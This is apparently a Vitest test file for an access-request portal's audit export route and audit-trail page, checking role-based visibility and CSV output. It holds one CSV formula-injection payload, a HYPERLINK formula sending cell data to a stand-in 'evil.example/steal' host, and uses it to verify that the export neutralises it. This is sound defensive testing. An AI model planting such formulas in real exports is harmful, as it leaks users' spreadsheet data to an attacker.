import { NextRequest } from "next/server";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { parseCsv } from "../../audit/export-format";
import type { Role } from "../../generated/prisma/enums";
import { createTestDatabase, type TestDatabase } from "../../testing/test-database";
import { emitAudit } from "../audit";
import type { UserActor } from "../context";
import { CSV_COLUMNS } from "./history-export";

// Direct requests to the export route and the audit-trail page, past any UI: only the signed-in actor is faked.
const session = vi.hoisted(() => ({ actor: null as UserActor | null }));
vi.mock("server-only", () => ({}));
vi.mock("@/lib/auth/actor", () => ({
  getActor: async () => session.actor,
  requireActor: async () => {
    if (!session.actor) throw new Error("redirect to sign-in");
    return session.actor;
  },
}));

const { GET: exportRoute } = await import("../../../app/api/audit/export/route");
const { default: AuditTrailPage } = await import("../../../app/(portal)/audit/requests/[id]/page");

const PEOPLE: Record<string, Role[]> = {
  alice: ["REQUESTER"],
  erin: ["REQUESTER"],
  bob: ["APPROVER"],
  carol: ["AUDITOR"],
};
const HOSTILE = `=HYPERLINK("http://evil.example/steal?d="&A1,"Open")`;

let db: TestDatabase;
const users: Record<string, UserActor> = {};
const ids: Record<string, string> = {};

async function request(name: string, justification: string, ticket: string | null = null) {
  const created = await db.prisma.accessRequest.create({
    data: {
      requesterId: users[name]!.userId,
      status: "COMPLETED",
      justification,
      ticket,
      durationMinutes: 60,
      startsAt: new Date(),
      endsAt: new Date(Date.now() + 3_600_000),
      requiredApprovals: 1,
      targets: {
        create: [{ accountId: "210987654321", permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1/ps-power" }],
      },
    },
  });
  await db.prisma.$transaction((tx) =>
    emitAudit(tx, users[name]!, {
      action: "request.created",
      entityType: "request",
      entityId: created.id,
      requestId: created.id,
      reason: justification,
    }),
  );
  return created.id;
}

async function download(who: string | null, query: string) {
  session.actor = who ? users[who]! : null;
  const response = await exportRoute(new NextRequest(`http://localhost/api/audit/export?${query}`));
  return { response, text: await response.text() };
}

beforeAll(async () => {
  db = await createTestDatabase();
  // getPrisma() keeps its client on globalThis; pointing it at the test database is all the route needs.
  (globalThis as { portalPrisma?: unknown }).portalPrisma = db.prisma;
  for (const [name, roles] of Object.entries(PEOPLE)) {
    const user = await db.prisma.user.create({ data: { email: `${name}@example.com`, name, roles } });
    users[name] = {
      type: "user",
      userId: user.id,
      email: user.email!,
      name,
      roles,
      groups: [],
      identityStoreUserId: null,
      ip: "10.0.0.5",
      userAgent: "vitest",
    };
  }
  ids.alice = await request("alice", "Rotate the payment gateway keys", "PAY-1");
  ids.erin = await request("erin", HOSTILE, "INC-7");
  ids.erinQuiet = await request("erin", "Resize the analytics warehouse before the quarter close");
});

afterAll(async () => {
  delete (globalThis as { portalPrisma?: unknown }).portalPrisma;
  await db?.drop();
});

beforeEach(() => {
  session.actor = null;
});

describe("GET /api/audit/export", () => {
  it("refuses an anonymous caller", async () => {
    const { response, text } = await download(null, "format=csv");
    expect(response.status).toBe(401);
    expect(JSON.parse(text)).toMatchObject({ ok: false, code: "UNAUTHENTICATED" });
  });

  it("gives a requester only their own rows, whatever the query string asks for", async () => {
    for (const query of [
      "format=csv",
      "format=csv&requester=erin%40example.com",
      "format=csv&q=analytics",
      `format=csv&q=${encodeURIComponent("HYPERLINK")}`,
    ]) {
      const { response, text } = await download("alice", query);
      expect(response.status).toBe(200);
      const [header, ...rows] = parseCsv(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(rows.every((r) => r[0] === ids.alice)).toBe(true);
      expect(text).not.toContain("erin@example.com");
      expect(text).not.toContain("analytics");
    }
    const { text } = await download("alice", "format=jsonl");
    const lines = text
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { id: string; requester: { email: string } });
    expect(lines.map((l) => l.id)).toEqual([ids.alice]);
  });

  it("gives an approver who is not an auditor nothing of other people's", async () => {
    const { text } = await download("bob", "format=jsonl");
    expect(text).toBe("");
  });

  it("gives an auditor everyone's rows, with hostile cells neutralised", async () => {
    const { response, text } = await download("carol", "format=csv&requester=erin%40example.com");
    expect(response.headers.get("content-type")).toContain("text/csv");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="access-history-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const [, ...rows] = parseCsv(text);
    expect(rows.map((r) => r[0]).sort()).toEqual([ids.erin, ids.erinQuiet].sort());
    const hostile = rows.find((r) => r[0] === ids.erin)!;
    expect(hostile[CSV_COLUMNS.indexOf("justification")]).toBe(`'${HOSTILE}`);
    // On the wire the cell is quoted (it holds quotes and commas) and starts with the neutralising apostrophe.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?d=""&A1,""Open"")"`);
  });

  it("rejects an unknown format with a field error, not a stack trace", async () => {
    const { response, text } = await download("carol", "format=xlsx");
    expect(response.status).toBe(400);
    expect(JSON.parse(text)).toMatchObject({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { format: ["Choose csv or jsonl."] },
    });
  });
});

describe("/audit/requests/[id]", () => {
  const open = (who: string, id: string) => {
    session.actor = users[who]!;
    return AuditTrailPage({ params: Promise.resolve({ id }) });
  };
  const notFound = (error: unknown) => String((error as { digest?: string }).digest ?? error).includes("404");

  it("answers a requester's direct request for someone else's trail as not found", async () => {
    const refused = await open("alice", ids.erin!).then(
      () => null,
      (error: unknown) => error,
    );
    expect(notFound(refused)).toBe(true);
    const missing = await open("alice", "no-such-request").then(
      () => null,
      (error: unknown) => error,
    );
    expect(notFound(missing)).toBe(true);
  });

  it("shows the requester's own trail and any trail to an auditor", async () => {
    const own = await open("alice", ids.alice!);
    expect(own.props).toMatchObject({ "data-testid": "request-audit-trail", "data-request-id": ids.alice });
    const audited = await open("carol", ids.erin!);
    expect(audited.props).toMatchObject({ "data-request-id": ids.erin });
  });
});
